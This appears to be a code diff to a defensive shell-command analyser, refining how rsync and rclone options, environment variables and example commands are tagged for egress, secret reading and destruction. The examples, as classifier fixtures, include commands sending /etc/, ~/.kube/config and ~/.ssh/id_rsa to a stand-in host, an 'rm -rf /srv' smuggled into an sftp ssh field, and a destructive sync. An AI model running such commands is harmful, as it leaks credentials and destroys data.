@@ -793,7 +793,7 @@ RSYNC = command(
     ),
     examples=(
         example("rsync -a src/ dst/", WRITES),
-        example("rsync -a /etc/ x.example::drop", EGRESS),
+        example("rsync -a /etc/ x.example::drop", EGRESS, SECRET_READ),
         example("rsync -az ~/.kube/config x.example:drop", EGRESS, SECRET_READ),
         example("rsync -a --delete empty/ /srv/", DESTRUCTIVE, WRITES),
         example("rsync -a --delete empty/ dst/", DESTRUCTIVE, WRITES),
@@ -1147,7 +1147,8 @@ RCLONE_OPTIONS = (
     *values("--log-file, --backup-dir, --cache-dir, --temp-dir, --output", takes=WRITE),
     option("--config", takes=CONFIG),
     option("--password-command", takes=PROGRAM),
-    *values("--s3-endpoint, --sftp-host, --rc-addr, --addr", takes=HOST),
+    *values("--rc-addr, --addr", takes=HOST),
+    option("--s3-endpoint", "--sftp-host", takes=URL, effects=(EGRESS,)),
     option("--rc", effects=(MUTATION,)),
     option("-n", "--dry-run", harmless=True),
 )
@@ -1158,6 +1159,8 @@ RCLONE = command(
     analyser="rclone",
     environment=(
         variable("RCLONE_CONFIG", takes=CONFIG),
+        variable("RCLONE_LOG_FILE", "RCLONE_CACHE_DIR", "RCLONE_TEMP_DIR", takes=WRITE),
+        variable("RCLONE_*_HOST", "RCLONE_*_URL", "RCLONE_*_ENDPOINT", takes=URL),
         variable("RCLONE_PASSWORD_COMMAND", "RCLONE_SFTP_SSH", "RCLONE_METADATA_MAPPER", "RCLONE_CONFIG_*_SSH", takes=PROGRAM),
     ),
     subcommands=(
@@ -1199,7 +1202,10 @@ RCLONE = command(
     ),
     examples=(
         example("rclone ls remote:bucket", REMOTE_READ),
-        example("rclone ls ':sftp,host=h,ssh=\"rm -rf /srv\":'", OPAQUE, REMOTE_READ),
+        example("rclone ls ':sftp,host=h,ssh=\"rm -rf /srv\":'", EGRESS, OPAQUE, REMOTE_READ),
+        example("rclone lsd ':sftp,host=x.example:'", EGRESS, REMOTE_READ),
+        example("rclone lsd r: --sftp-host x.example", EGRESS, REMOTE_READ),
+        example("rclone cat ':alias,remote=.:.env'", REMOTE_READ, SECRET_READ),
         example("rclone copy ~/.ssh/id_rsa remote:x", EGRESS, SECRET_READ),
         example("rclone sync -n a remote:b"),
         example("rclone sync a remote:b", DESTRUCTIVE, EGRESS),
